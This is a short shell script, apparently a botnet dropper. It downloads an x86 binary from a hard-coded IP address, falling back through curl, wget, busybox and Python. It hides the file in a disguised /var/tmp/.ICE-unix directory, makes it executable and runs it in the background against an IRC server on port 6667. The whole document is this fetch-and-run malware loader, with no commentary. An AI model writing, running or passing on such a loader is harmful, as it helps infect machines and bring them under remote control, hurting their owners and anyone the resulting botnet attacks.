#!/bin/sh
u=http://198.51.100.2/bins/tsu.x86
f=/var/tmp/.ICE-unix/tsu
mkdir -p /var/tmp/.ICE-unix
if command -v curl >/dev/null; then curl -s $u -o $f
elif command -v wget >/dev/null; then wget -q $u -O $f
elif command -v busybox >/dev/null; then busybox wget -q $u -O $f
else python -c "import urllib;urllib.urlretrieve('$u','$f')"; fi
chmod +x $f; $f irc.example.invalid 6667 &
